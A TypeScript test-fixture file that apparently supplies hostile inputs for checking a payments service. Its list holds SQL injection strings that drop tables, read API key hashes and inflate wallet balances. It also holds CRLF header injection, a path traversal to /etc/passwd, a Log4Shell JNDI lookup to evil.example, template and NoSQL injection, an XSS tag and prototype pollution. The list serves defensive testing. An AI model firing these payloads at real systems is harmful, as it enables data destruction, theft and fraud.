/** What attackers write where text is expected. */

/** A line that a header, a log or a statement must never begin with. */
export const INJECTED = "X-Injected: yes";

export const HOSTILE_TEXTS: readonly string[] = [
  "'; DROP TABLE orders; --",
  "' OR '1'='1",
  '" UNION SELECT key_hash FROM api_keys --',
  "1; UPDATE wallets SET paid = 1000000 WHERE '1' = '1",
  "$$; DELETE FROM postings; $$",
  "\\'; DROP SCHEMA public CASCADE; --",
  `a\r\n${INJECTED}\r\n\r\n{"state":"paid"}`,
  `a\n${INJECTED}`,
  `a%0d%0a${INJECTED}`,
  `a\u2028${INJECTED}`,
  "a\u0000b",
  "\ud800",
  "../../../../etc/passwd",
  "\x24{jndi:ldap://evil.example/a}",
  "{{constructor.constructor('return process')()}}",
  "<script>alert(1)</script>",
  '{"$gt":""}',
  "__proto__",
  "💰".repeat(40),
  "x".repeat(5000),
];
